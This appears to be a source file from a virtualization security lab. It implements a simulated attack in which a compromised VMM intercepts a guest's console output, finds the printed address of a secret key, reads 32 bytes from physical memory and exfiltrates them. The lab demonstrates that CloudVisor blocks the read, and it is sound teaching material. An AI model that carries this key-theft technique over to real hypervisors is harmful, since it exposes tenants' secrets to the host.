// The lab's first attack: a compromised VMM reads a guest's secret key straight out of physical
// memory. It learns where the key lives from the guest's own console (`secret where` prints its
// guest physical address), translates that address with the VMM's p2m, reads 32 bytes with
// hyp.mem.read and reports them through the exfiltration channel. On a bare host it succeeds;
// under CloudVisor the frame belongs to the guest and the read is refused.
const MARK = 'SECRET where va ';

function parseHex(text: string, from: number): number {
  let value = 0;
  let i = from;
  for (; i < text.length; i++) {
    const c = text.charCodeAt(i);
    const digit = c >= 48 && c <= 57 ? c - 48 : c >= 97 && c <= 102 ? c - 87 : -1;
    if (digit < 0) break;
    value = value * 16 + digit;
  }
  return i === from ? -1 : value;
}

export default definePatch({
  name: 'steal the secret',
  description: "Reads a guest's key through physical memory at the address its console shows.",
  install(vmm, hyp) {
    const translate = new Map<number, (gpa: number) => number>();
    const seen = new Map<number, string>();
    vmm.hooks.on('domain.create', (domain, info) => {
      translate.set(domain, (gpa) => info.translate(gpa));
    });
    vmm.wrap('console.flush', (original, domain, bytes) => {
      let text = (seen.get(domain) ?? '') + String.fromCharCode(...bytes);
      const at = text.indexOf(MARK);
      const pa = at < 0 ? -1 : text.indexOf(' pa 0x', at);
      const end = pa < 0 ? -1 : text.indexOf(' len', pa);
      if (end > 0) {
        const gpa = parseHex(text, pa + 6);
        const machine = translate.get(domain)?.(gpa) ?? 0;
        if (machine !== 0) vmm.exfiltrate(`dom${domain} secret`, hyp.mem.read(machine, 32));
        text = text.slice(end);
      }
      seen.set(domain, text.slice(-200));
      return original(domain, bytes);
    });
  },
});
